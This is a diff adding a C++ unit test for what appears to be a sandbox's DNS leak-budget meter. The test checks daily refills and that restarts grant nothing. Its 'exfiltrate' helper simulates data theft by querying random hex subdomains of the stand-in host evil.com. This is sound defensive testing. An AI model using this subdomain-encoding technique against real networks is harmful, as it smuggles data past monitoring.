@@ -206,3 +206,47 @@ TEST_CASE("a session that was forgotten for lack of room is rebuilt when it retu
     if (world.ask(again, hex_label(dice, 16) + ".evil.com") == 0) octets += 8;
   CHECK(octets <= 256);
 }
+
+TEST_CASE(
+    "a refill gives so much more for each whole day since the first attachment, and a restart nothing") {
+  const Folder folder;
+  std::mt19937_64 dice(9);
+  const std::string policy = meter_alone + "budgets: {zone: 64 B, refill: 32 B per day}\n";
+  constexpr std::int64_t day_ms = 86'400'000;
+  std::size_t octets = 0;
+  const auto exfiltrate = [&](LeakWorld& world, SandboxState& box) {
+    for (int i = 0; i < 30; ++i)
+      if (world.ask(box, hex_label(dice, 16) + ".evil.com") == 0) octets += 8;
+    return octets;
+  };
+  {
+    const auto journal = open_journal(folder);
+    LeakWorld world(policy, LeakWorld::shared_parts(), journal.get());
+    SandboxState& box = world.attach("one");
+    const std::size_t first = exfiltrate(world, box);
+    CHECK(first > 32);
+    CHECK(first <= 64);
+    CHECK(exfiltrate(world, box) == first);
+    world.advance(day_ms - 3'600'000);  // an hour before
+    CHECK(exfiltrate(world, box) == first);
+    world.advance(3'600'000);
+    const std::size_t second = exfiltrate(world, box);
+    CHECK(second > first);
+    CHECK(second <= 64 + 32);
+    CHECK(exfiltrate(world, box) == second);
+  }
+  const std::size_t before = octets;
+  for (int run = 0; run < 3; ++run) {  // on the first day, by the clock of these
+    const auto journal = open_journal(folder);
+    LeakWorld world(policy, LeakWorld::shared_parts(), journal.get());
+    SandboxState& box = world.attach("one");
+    CHECK(exfiltrate(world, box) == before);
+  }
+  const auto journal = open_journal(folder);
+  LeakWorld world(policy, LeakWorld::shared_parts(), journal.get());
+  world.advance(3 * day_ms);
+  SandboxState& box = world.attach("one");
+  exfiltrate(world, box);
+  CHECK(octets > before);
+  CHECK(octets <= 64 + 3 * 32);
+}
